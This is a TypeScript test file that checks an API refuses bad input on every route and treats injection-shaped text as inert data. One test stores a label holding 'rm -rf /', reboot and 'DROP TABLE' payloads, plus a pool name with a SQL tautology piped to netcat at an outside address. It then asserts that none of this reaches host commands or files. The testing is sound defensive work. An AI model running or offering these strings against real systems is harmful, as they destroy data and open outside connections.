/**
 * The bad-input corpus against every API route (issue 7): each field of each route's
 * URL and body gets every bad value of its kind (test/support/badInputs.ts), each body
 * every wrong shape. Each is answered with a 4xx in Nova's fault shape, without a
 * stack trace or a file path, writes nothing to the database, and asks nothing of the
 * host: the manager's host layer is the real reconciler over a recording executor,
 * which must have run no command. An admin token is used, so authorization is never
 * what refuses. One API on one SQLite database for the whole file: the values are
 * refused before the backend could make a difference.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_MAX_BODY_BYTES } from '../../src/api/body.js';
import { registeredRoutes } from '../support/api.js';
import {
  baseRequest,
  expectRefused,
  fixture,
  PLACEHOLDER,
  ROUTES,
  type RouteCase,
  send,
  substituted,
  wrongShapes,
} from '../support/apiRoutes.js';
import { type Bad, badIntegers, badValues } from '../support/badInputs.js';
import { useFixture, withFixture } from '../support/useFixture.js';

/**
 * Values a URL can carry: strings (other JSON types are text in a URL), not so long
 * that Node's HTTP server refuses the request line itself (431, before novanet sees
 * it), and not empty (`/os-networks/` is another route, the list).
 */
const fitsUrl = (entry: Bad) => typeof entry.value === 'string' && entry.value.length <= 4096 && entry.value !== '';

function casesOf(row: RouteCase): { title: string; field: string; value: unknown }[] {
  return Object.entries(row.fields).flatMap(([field, spec]) => {
    let values = typeof spec === 'string' ? badValues(spec) : badIntegers(spec.min, spec.max);
    if (field.startsWith('path:') || field.startsWith('url:')) values = values.filter(fitsUrl);
    return values.map((entry) => ({ title: `${row.route} (${row.what}): ${field} = ${entry.name}`, field, value: entry.value }));
  });
}

const FIELD_CASES = ROUTES.flatMap((row) => casesOf(row).map((entry) => ({ ...entry, row })));
const SHAPE_CASES = ROUTES.filter((row) => row.body !== undefined).flatMap((row) =>
  wrongShapes(row.body!(PLACEHOLDER), 1)
    .filter((shape) => !row.acceptsShapes?.includes(shape.name))
    .map((shape) => ({ title: `${row.route} (${row.what}): body ${shape.name}`, row, shape: shape.name })),
);

describe('bad input to every API route', () => {
  const current = useFixture(() => fixture());

  it('has a row for every route the app registered', () => {
    expect([...new Set(ROUTES.map((row) => row.route))].sort()).toEqual(registeredRoutes(current().api.app));
  });

  it.each(FIELD_CASES)('$title', async ({ row, field, value }) => {
    await expectRefused(current(), substituted(row, current().w, field, value));
  });

  it.each(SHAPE_CASES)('$title', async ({ row, shape }) => {
    const f = current();
    const { body: _valid, ...base } = baseRequest(row, f.w);
    const wanted = wrongShapes(row.body!(f.w), DEFAULT_MAX_BODY_BYTES).find((candidate) => candidate.name === shape)!;
    await expectRefused(f, { ...base, ...wanted.request });
  });
});

/**
 * Free text (labels, pool names) may be any printable Unicode, so shell and SQL
 * shapes are data there: stored as given, and never on a command line or in a file
 * the host layer writes, even through a full reconcile.
 */
describe('injection-shaped free text', () => {
  it('is stored as given and reaches no command line', () =>
    withFixture(
      () => fixture(),
      async (f) => {
        const label = ';rm -rf / $(reboot) `halt` "; DROP TABLE networks; --';
        const pool = "' OR 1=1 -- | nc 198.51.100.1 9";
        const created = await send(f, { method: 'POST', path: '/v2.1/os-networks', body: { network: { label, cidr: '10.9.0.0/28' } } });
        expect(created.status, created.text).toBe(200);
        const bulk = await send(f, {
          method: 'POST',
          path: '/v2.1/os-floating-ips-bulk',
          body: { floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool } },
        });
        expect(bulk.status, bulk.text).toBe(200);
        await f.reconciler.reconcileAll();
        const shown = (
          await send(f, { method: 'GET', path: `/v2.1/os-networks/${(created.json as { network: { id: string } }).network.id}` })
        ).json as { network: { label: string } };
        expect(shown.network.label).toBe(label);
        const words = f.executor.commands.flatMap((spec) => [...spec.argv, spec.input ?? '']);
        expect(words.length, 'the reconcile ran commands').toBeGreaterThan(0);
        for (const word of words) {
          for (const text of [label, pool, 'reboot', 'DROP TABLE', 'OR 1=1']) expect(word).not.toContain(text);
        }
        const written = readdirSync(f.stateDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
        for (const file of written) {
          const text = readFileSync(join(file.parentPath, file.name), 'utf8');
          for (const part of ['reboot', 'DROP TABLE', 'OR 1=1']) expect(text, file.name).not.toContain(part);
        }
      },
    ));
});

/**
 * Each row's request as it stands, unchanged, succeeds (in a world of its own, as
 * most of them write): so every refusal above is the bad value's doing, not the rest
 * of a request that was wrong anyway.
 */
describe('the valid request of every row', () => {
  it.each(ROUTES.map((row) => ({ title: `${row.route} (${row.what})`, row })))('$title succeeds', ({ row }) =>
    withFixture(
      () => fixture(),
      async (f) => {
        const reply = await send(f, baseRequest(row, f.w));
        expect(reply.status, reply.text.slice(0, 300)).toBeGreaterThanOrEqual(200);
        expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(300);
      },
    ),
  );
});
